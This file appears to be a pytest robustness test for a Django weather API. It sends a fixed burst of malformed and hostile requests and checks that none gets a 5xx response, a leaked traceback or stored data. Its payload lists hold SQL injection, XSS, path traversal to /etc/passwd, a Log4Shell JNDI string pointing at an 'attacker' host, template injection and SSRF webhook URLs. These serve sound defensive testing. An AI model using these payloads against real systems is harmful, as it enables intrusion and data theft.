"""A burst of hostile requests (issue 12): whatever arrives, the answer is never a 5xx, every error
is problem+json without a traceback, and nothing that validation refuses is stored.

The burst is fixed data, so a failure names the exact request; the generated inputs are
schemathesis's (test_schema_conformance.py).
"""

from __future__ import annotations

import json
import logging
from typing import Any

import pytest
from rest_framework.test import APIClient

from adapters.persistence import models
from tests.api.conftest import DATABASES, Stored
from tests.support.fakes.providers import FakeGeocoder

pytestmark = pytest.mark.django_db(databases=DATABASES)

LOCATION = "6f1b6a32-8a9e-4c2b-9d1e-3c5f7a9b1d2e"  # replaced by the stored location's id
INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE weather_location;--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00",
    "${jndi:ldap://attacker/x}",
    "{{7*7}}",
    "A" * 10_000,
    "%ED%A0%80",  # a lone surrogate, percent-encoded: not UTF-8 at all
    "%C0%AF",  # an overlong encoding of "/"
    "ﷺ" * 300,
]

#: (method, path, body as text or None, content type): each is expected to be refused or read.
REQUESTS: list[tuple[str, str, str | None, str]] = [
    *(("GET", f"/api/v1/locations/?search={value}", None, "") for value in INJECTIONS),
    *(("GET", f"/api/v1/locations/?country_code={value}", None, "") for value in INJECTIONS),
    *(("GET", f"/api/v1/geocode/?name={value}", None, "") for value in INJECTIONS[:6]),
    *(("GET", f"/api/v1/tasks/{value}/", None, "") for value in INJECTIONS[:5]),
    *(("GET", f"/api/v1/alerts/?rule={value}", None, "") for value in INJECTIONS[:5]),
    *(("GET", f"/api/v1/locations/{value}/", None, "") for value in INJECTIONS[:5]),
    *(
        ("GET", f"/api/v1/locations/{LOCATION}/weather/{resource}={value}", None, "")
        for resource in ("history/?start", "forecast/?hours", "daily/?end", "current/?units")
        for value in ("' OR '1'='1", "-1", "1e999", "%00", "2026-13-45T99:99:99Z")
    ),
    ("GET", "/api/v1/locations/?page=-1", None, ""),
    ("GET", "/api/v1/locations/?page=99999999999999999999", None, ""),
    ("GET", "/api/v1/locations/?page_size=1e9", None, ""),
    ("GET", "/api/v1/locations/?page=%ZZ", None, ""),
    ("POST", "/api/v1/locations/", "", "application/json"),
    ("POST", "/api/v1/locations/", "null", "application/json"),
    ("POST", "/api/v1/locations/", "[]", "application/json"),
    ("POST", "/api/v1/locations/", '"Paris"', "application/json"),
    ("POST", "/api/v1/locations/", "{", "application/json"),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "x", "latitude": 1, "longitude": 2',
        "application/json",
    ),
    ("POST", "/api/v1/locations/", "[" * 50_000 + "]" * 50_000, "application/json"),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "Paris", "latitude": true, "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "Paris", "latitude": "48", "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "Paris", "latitude": 1e308, "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "Paris", "latitude": NaN, "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "P", "latitude": 1, "longitude": 2, "elevation": 1e308}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "\\ud800", "latitude": 1, "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "a\\u0000b", "latitude": 1, "longitude": 2}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": "P", "latitude": 1, "longitude": 2, "timezone": "../../etc"}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/locations/",
        '{"name": {"$gt": ""}, "latitude": 1, "longitude": 2}',
        "application/json",
    ),
    ("POST", "/api/v1/locations/", b"\xff\xfe\xfd".decode("latin-1"), "application/json"),
    ("POST", "/api/v1/locations/", '{"name": "Paris"}', "application/json; charset=rot13"),
    (
        "POST",
        "/api/v1/locations/",
        "name=Paris&latitude=1&longitude=2",
        "application/x-www-form-urlencoded",
    ),
    ("POST", "/api/v1/locations/", "<xml/>", "application/xml"),
    (
        "POST",
        "/api/v1/alert-rules/",
        '{"location_id": "x", "metric": "temperature", "operator": "gt", "threshold": 1e300}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/alert-rules/",
        '{"metric": "__class__", "operator": "gt", "threshold": 1}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/alert-rules/",
        '{"location_id": "00000000-0000-0000-0000-000000000000", "metric": "temperature", '
        '"operator": "gt", "threshold": 1, "webhook_url": "http://0x7f000001/"}',
        "application/json",
    ),
    ("POST", "/api/v1/alert-rules/", '{"webhook_url": "file:///etc/passwd"}', "application/json"),
    (
        "POST",
        "/api/v1/auth/token/",
        '{"username": "\' OR 1=1 --", "password": "x"}',
        "application/json",
    ),
    (
        "POST",
        "/api/v1/auth/token/",
        '{"username": ["a"], "password": {"b": 1}}',
        "application/json",
    ),
    ("DELETE", "/api/v1/locations/' OR '1'='1/", None, ""),
    ("PUT", "/api/v1/locations/", "{}", "application/json"),
    ("TRACE", "/api/v1/locations/", None, ""),
]


def _send(client: APIClient, method: str, path: str, body: str | None, content_type: str) -> Any:
    extra: dict[str, Any] = {
        "HTTP_X_REQUEST_ID": "<script>" + "x" * 5000,
        "HTTP_ACCEPT_LANGUAGE": "zz;q=2",
    }
    if body is None:
        return client.generic(method, path, **extra)
    data: Any = body.encode("utf-8", "surrogatepass")
    return client.generic(method, path, data, content_type=content_type, **extra)


@pytest.mark.parametrize("as_user", [False, True], ids=["anonymous", "authenticated"])
def test_a_hostile_burst_gets_no_5xx_no_traceback_and_stores_nothing(
    stored: Stored,
    anonymous: APIClient,
    user: APIClient,
    as_user: bool,
    geocoder: FakeGeocoder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    client = user if as_user else anonymous
    location = stored.location()
    before = {
        model: model.objects.using(stored.alias).count()
        for model in (models.Location, models.AlertRule)
    }
    caplog.set_level(logging.INFO)

    answers = []
    for method, template, body, content_type in REQUESTS:
        path = template.replace(LOCATION, str(location.id))
        response = _send(client, method, path, body, content_type)
        answers.append((method, path[:80], response.status_code))
        assert response.status_code < 500, (method, path[:200], response.content[:300])
        if response.status_code >= 400:
            assert response["Content-Type"] == "application/problem+json", (method, path[:80])
            text = response.content.decode()
            assert "Traceback" not in text
            assert json.loads(text)["status"] == response.status_code
        assert len(response["X-Request-ID"]) <= 128

    after = {
        model: model.objects.using(stored.alias).count()
        for model in (models.Location, models.AlertRule)
    }
    assert after == before, answers
    assert not [r for r in caplog.records if r.exc_info], "a request logged a traceback"
    assert len(REQUESTS) >= 80
